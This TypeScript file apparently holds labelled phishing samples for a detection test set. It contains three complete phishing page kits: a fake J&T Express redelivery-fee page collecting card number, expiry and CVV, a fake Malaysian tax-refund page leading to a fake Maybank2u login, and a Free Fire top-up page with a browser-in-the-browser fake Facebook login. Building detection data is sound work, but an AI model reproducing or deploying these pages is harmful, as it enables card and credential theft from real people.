import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, doc, jsonRoute, jsRoute, walletCss } from '../parts/zy-kit.js';

export const entries: Entry[] = [
{
  id: 'zy-jnt-paket-tertahan-ongkir-card',
  label: 'phishing',
  kind: 'courier-fee-kit',
  url: 'https://jnt-express.cek-paket.xyz/id/redelivery?resi=JX4418920351',
  body: doc({
    title: 'J&T Express Indonesia | Pengiriman Ulang',
    lang: 'id',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f6f6f6}.h{background:#e60012;color:#fff;padding:14px 20px;font:900 24px Arial}.c{max-width:460px;margin:18px auto;background:#fff;padding:20px;border-radius:6px}
.trk{border-left:3px solid #e60012;padding-left:12px;font-size:13px}.trk p{margin:6px 0}.fee{background:#fff3f3;padding:10px;border-radius:6px;font-size:15px;margin:12px 0}
input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #ccc;border-radius:4px;margin:4px 0 12px;font-size:15px}.r{display:flex;gap:10px}button{width:100%;background:#e60012;color:#fff;border:0;padding:13px;border-radius:4px;font-size:15px}`,
    body: `<div class="h">J&amp;T EXPRESS</div>
<div class="c"><h3>No. Resi: JX4418920351</h3><div class="trk"><p><b>Tertahan di gudang</b> — DC Cakung, 14:22</p><p>Alamat penerima tidak lengkap (RT/RW tidak ditemukan)</p><p>Tiba di gudang transit — 09:10</p></div>
<div class="fee">Biaya pengiriman ulang: <b>Rp 12.500</b>. Paket akan dikembalikan ke pengirim jika tidak dibayar dalam 24 jam.</div>
<form id="pay" method="post" action="/id/redelivery/pay">
<label>Alamat lengkap</label><input name="alamat" required><label>Kode pos</label><input name="kodepos" maxlength="5">
<label>Nomor kartu debit/kredit</label><input name="cardnumber" id="cn" inputmode="numeric" maxlength="19" required>
<div class="r"><div style="flex:1"><label>MM/YY</label><input name="exp" maxlength="5"></div><div style="flex:1"><label>CVV</label><input name="cvv" maxlength="4"></div></div>
<button>Bayar Rp 12.500</button></form></div>
<script>
function luhn(n){var s=0,a=false;for(var i=n.length-1;i>=0;i--){var d=+n[i];if(a){d*=2;if(d>9)d-=9}s+=d;a=!a}return s%10===0}
document.getElementById("pay").addEventListener("submit",function(e){var n=document.getElementById("cn").value.replace(/\\s/g,"");if(n.length<15||!luhn(n)){e.preventDefault();alert("Nomor kartu tidak valid")}});
</script>`,
  }),
},
{
  id: 'zy-lhdn-bayaran-balik-fpx-chain',
  label: 'phishing',
  kind: 'gov-refund-kit',
  url: 'https://mytax-hasil.gov-my.online/bayaran-balik/',
  body: doc({
    title: 'LHDNM | Bayaran Balik Cukai',
    lang: 'ms',
    css: `body{margin:0;font-family:Arial;background:#f0f3f8}.h{background:#1b2f6b;color:#fff;padding:14px 22px}.h small{display:block;opacity:.8}.c{max-width:520px;margin:22px auto;background:#fff;padding:24px;border-radius:6px}
.amt{font-size:28px;color:#1b2f6b;font-weight:700}.bk{display:grid;grid-template-columns:1fr 1fr;gap:10px;margin-top:12px}.bk a{border:1px solid #cfd6e6;border-radius:6px;padding:14px;text-align:center;color:#1b2f6b;text-decoration:none;font-weight:700}`,
    body: `<div class="h"><b>LEMBAGA HASIL DALAM NEGERI MALAYSIA</b><small>Inland Revenue Board of Malaysia · MyTax</small></div>
<div class="c"><p>Tahun Taksiran 2024 — Status: <b>LEBIHAN BAYARAN</b></p><div class="amt">RM 1,248.60</div><p>Bayaran balik cukai anda telah diluluskan tetapi gagal dikreditkan kerana maklumat akaun bank tidak sah. Sila pilih bank anda untuk menerima bayaran balik melalui FPX.</p>
<div class="bk"><a href="/bayaran-balik/fpx/maybank2u">Maybank2u</a><a href="/bayaran-balik/fpx/cimb">CIMB Clicks</a><a href="/bayaran-balik/fpx/pbe">Public Bank</a><a href="/bayaran-balik/fpx/rhb">RHB Now</a><a href="/bayaran-balik/fpx/bimb">Bank Islam GO</a><a href="/bayaran-balik/fpx/hlb">Hong Leong Connect</a></div>
<p style="font-size:11px;color:#888;margin-top:18px">Hak Cipta Terpelihara © 2025 Lembaga Hasil Dalam Negeri Malaysia</p></div>`,
  }),
  routes: {
    'mytax-hasil.gov-my.online/bayaran-balik/fpx/maybank2u': htmlRoute(doc({ title: 'Maybank2u', body: '<div style="max-width:400px;margin:0 auto;font-family:Arial"><div style="background:#ffc83d;padding:14px;font-weight:700">Maybank2u · FPX</div><div style="padding:20px"><p>Pay-out: LHDNM BAYARAN BALIK · RM 1,248.60</p><form method="post" action="/bayaran-balik/fpx/login"><input name="username" placeholder="Username" style="width:100%;padding:12px;margin-bottom:10px"><input name="password" type="password" placeholder="Password" style="width:100%;padding:12px;margin-bottom:10px"><button style="width:100%;padding:12px;background:#ffc83d;border:0">Login</button></form></div></div>' })),
  },
},
{
  id: 'zy-freefire-topup-bitb-facebook',
  label: 'phishing',
  kind: 'game-account-kit',
  url: 'https://ff-topup-garena.shop/event/',
  body: doc({
    title: 'Garena Free Fire — Top Up Event',
    lang: 'id',
    css: `body{margin:0;background:#111;color:#fff;font-family:Arial}header{background:#ff6a00;padding:14px 20px;font-weight:900;font-size:20px}.w{max-width:520px;margin:0 auto;padding:20px}
.it{display:flex;justify-content:space-between;background:#222;border-radius:8px;padding:14px;margin:8px 0}.it b{color:#ffb300}.it button{background:#ff6a00;color:#fff;border:0;border-radius:6px;padding:8px 14px}
#win{position:fixed;left:50%;top:60px;transform:translateX(-50%);width:420px;max-width:96vw;background:#fff;color:#1c1e21;border-radius:8px;box-shadow:0 12px 40px rgba(0,0,0,.6);display:none;overflow:hidden}
.tb{background:#dee1e6;padding:6px 10px;display:flex;gap:8px;align-items:center;font-size:12px}.tb .url{flex:1;background:#fff;border-radius:12px;padding:4px 10px;color:#333}.tb .url b{color:#188038}
.fb{padding:20px}.fb input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #dddfe2;border-radius:6px;margin:6px 0;font-size:15px}.fb button{width:100%;background:#1877f2;color:#fff;border:0;border-radius:6px;padding:11px;font-size:17px;font-weight:700}`,
    body: `<header>GARENA FREE FIRE · EVENT TOP UP 50%</header>
<div class="w"><p>Diskon 50% khusus login Facebook hari ini!</p>
<div class="it"><span>💎 140 Diamond</span><span><s>Rp 20.000</s> <b>Rp 10.000</b></span><button>Ambil</button></div>
<div class="it"><span>💎 355 Diamond</span><span><s>Rp 50.000</s> <b>Rp 25.000</b></span><button>Ambil</button></div>
<div class="it"><span>💎 720 Diamond</span><span><s>Rp 100.000</s> <b>Rp 50.000</b></span><button>Ambil</button></div>
<div class="it"><span>🎫 Membership Bulanan</span><span><s>Rp 80.000</s> <b>GRATIS</b></span><button>Ambil</button></div></div>
<div id="win"><div class="tb"><span>🔒</span><div class="url"><b>https://www.facebook.com</b>/login.php?skip_api_login=1&amp;api_key=1816271095275</div><span style="cursor:pointer" onclick="win.style.display='none'">✕</span></div>
<div class="fb"><div style="color:#1877f2;font:700 30px Helvetica">facebook</div><p style="font-size:14px">Masuk ke Facebook untuk melanjutkan ke Garena Free Fire</p><form method="post" action="/event/fb.php"><input name="email" placeholder="Email atau nomor telepon"><input name="pass" type="password" placeholder="Kata sandi"><button>Masuk</button></form><p style="font-size:12px;text-align:center"><a href="#">Lupa akun?</a></p></div></div>
<script>document.querySelectorAll(".it button").forEach(function(b){b.onclick=function(){win.style.display="block"}});</script>`,
  }),
},
];
